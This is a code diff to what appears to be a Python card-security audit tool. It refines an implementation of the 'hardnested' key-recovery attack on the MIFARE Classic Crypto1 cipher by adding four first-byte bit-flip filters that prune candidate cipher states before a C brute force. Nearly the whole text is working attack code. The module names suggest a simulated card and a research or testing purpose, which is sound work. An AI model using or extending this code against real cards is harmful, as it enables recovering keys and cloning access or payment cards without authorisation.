@@ -11,10 +11,12 @@ halves (``cardsim.crypto1.Crypto1``). Each nonce gives, for byte k, the bit
   byte range over all 256 values whatever the state; the odd half meets the odd-numbered ones, the even half the
   even-numbered ones). Collecting nonces until every first byte has been seen makes Sum(a0) exact, and only
   (p, q) pairs that give it are kept.
-- Bit-flip property: flipping the last bit of the first encrypted byte flips only the last fed bit of that byte,
-  which reaches only keystream bit 8, through the filter's first input. Whether the filter can feel that input
-  depends only on the 16 low bits of the odd half; whether any such pair of first bytes shows different a0
-  bits tells which (exact once every first byte has been seen).
+- Bit-flip properties: flipping bit j of the first encrypted byte flips the fed bit j alone. For j = 7, 6, 5, 4
+  that bit reaches the parity bit a0 only through the filter's first input (bit 0 of the half the filter reads,
+  at clocks j+1, j+3, ... up to 8), and whether the filter can feel that input depends only on 16 bits of one
+  half (odd for clocks 8 and 6, even for 7 and 5). So "some pair v, v ^ 1<<j gives different a0 bits" holds
+  exactly when the half can feel it at one of those clocks; with every first byte seen it is exact both ways
+  (checked against random states; for j < 4 the bit reaches a feedback tap and no single half decides it).
 - What is left, odd x even, is brute-forced in C (``audit._hardnested``, both cores): a state survives when it
   explains every parity bit of the collected nonces; the survivor is checked by authenticating.
 
@@ -38,7 +40,9 @@ from terminals.m1 import FrameSlot, M1Chip, M1Error, M1Reader, with_crc
 
 BRUTE_NONCES = 24  # 96 parity bits: a wrong 48-bit state passes them with chance 2^-96
 MAX_NONCES = 20_000  # ~1,600 show every first byte; far more means the nonces are not random
-FLIP = 0x80  # the last bit of the first byte in cipher order (bytes LSB first)
+# The bit-flip properties: (flip mask of the first byte, the half that decides it, clocks it is felt at): bit 7
+# at clock 8, bit 5 at 6 and 8 (odd half); bit 6 at 7, bit 4 at 5 and 7 (even half).
+FLIPS = ((0x80, "odd", 1), (0x20, "odd", 2), (0x40, "even", 1), (0x10, "even", 2))
 CHUNK_SECONDS = 1.0  # one brute-force call between progress lines and budget checks
 
 Progress = Callable[[str], None]
@@ -71,15 +75,18 @@ def _half_values(mask: int, value: int) -> np.ndarray:
     return halves
 
 
-def _filter_feels_first_input(odd: np.ndarray) -> np.ndarray:
-    """Per odd half: whether keystream bit 8 depends on the last fed bit of byte 0 for some fed bits, i.e. fc
-    differs with its first input while its other four come from the odd half's 16 low bits."""
-    low = np.arange(1 << 16, dtype=np.uint32)
+def _filter_feels_first_input(halves: np.ndarray, clocks: int) -> np.ndarray:
+    """Per half: whether a bit fed in the first byte can reach the parity bit a0, i.e. at one of the ``clocks``
+    last clocks up to 8 at which it is the filter's first input, fc differs with that input while its other
+    four come from 16 bits of the half (bits 0..15 at the last such clock, 1..16 at the one before)."""
+    low = np.arange(1 << 17, dtype=np.uint32)
     nibble = [(low >> np.uint32(4 * i)) & np.uint32(0xF) for i in range(4)]
     rest = ((FA >> nibble[0]) & 1) << 3 | ((FB >> nibble[1]) & 1) << 2 | ((FB >> nibble[2]) & 1) << 1
     rest |= (FA >> nibble[3]) & 1
-    table = ((FC >> rest) ^ (FC >> (rest | 16))) & 1 == 1
-    feels: np.ndarray = table[odd & np.uint32(0xFFFF)]
+    feels_at = ((FC >> rest) ^ (FC >> (rest | 16))) & 1 == 1  # fc's first input felt, by the 16 bits above it
+    feels: np.ndarray = np.zeros(halves.shape, dtype=bool)
+    for shift in range(clocks):
+        feels |= feels_at[(halves >> np.uint32(shift)) & np.uint32(0xFFFF)]
     return feels
 
 
@@ -108,9 +115,9 @@ class NestedNonces:
         """Sum(a0): exact once every first byte has been seen."""
         return sum(self.a0.values())
 
-    def flip_differs(self) -> bool:
-        """Whether some pair of first bytes that differ in the flip bit gave different a0 bits."""
-        return any(self.a0[v] != self.a0[v ^ FLIP] for v in self.a0 if v ^ FLIP in self.a0)
+    def flip_differs(self, mask: int) -> bool:
+        """Whether some pair of first bytes that differ in the bits of ``mask`` gave different a0 bits."""
+        return any(self.a0[v] != self.a0[v ^ mask] for v in self.a0 if v ^ mask in self.a0)
 
     def checks(self, uid: int) -> tuple[bytes, bytes]:
         """The brute force's inputs: uid ^ {nT} per nonce (native uint32) and its a bits (a byte each)."""
@@ -182,9 +189,10 @@ def candidate_states(
     The lists are shared between pairs (full size: ~130 MB in all)."""
     mask, value = known_key_bits or (0, 0)
     masks, values = Crypto1.from_key(mask), Crypto1.from_key(value)
-    odd = _half_values(masks.odd, values.odd)
-    odd = odd[_filter_feels_first_input(odd) == nonces.flip_differs()]
-    even = _half_values(masks.even, values.even)
+    halves = {"odd": _half_values(masks.odd, values.odd), "even": _half_values(masks.even, values.even)}
+    for flip, half, clocks in FLIPS:
+        halves[half] = halves[half][_filter_feels_first_input(halves[half], clocks) == nonces.flip_differs(flip)]
+    odd, even = halves["odd"], halves["even"]
     p_table, q_table = (np.frombuffer(t, dtype=np.uint8) for t in half_sums())
     odd_by_p, even_by_q = _groups(odd, p_table), _groups(even, q_table)
     pairs = []
@@ -223,9 +231,10 @@ def hardnested_attack(
     space = sum(len(o) * len(e) for o, e in pairs)
     if space == 0:
         raise AttackFailed("no state fits the nonces (the known key bits are wrong?)")
+    flips = " ".join(f"{m:02X}" for m, _, _ in FLIPS if nonces.flip_differs(m)) or "none"
     progress(
-        f"hardnested: Sum(a0) = {nonces.sum_a0()}, bit flip {'differs' if nonces.flip_differs() else 'never differs'}"
-        f": 2^{math.log2(space):.1f} states left of 2^{48 - (known_key_bits or (0, 0))[0].bit_count()}"
+        f"hardnested: Sum(a0) = {nonces.sum_a0()}, first-byte flips that change a0: {flips}: "
+        f"2^{math.log2(space):.1f} states left of 2^{48 - (known_key_bits or (0, 0))[0].bit_count()}"
     )
     fed, targets = nonces.checks(uid)
     threads = len(os.sched_getaffinity(0))
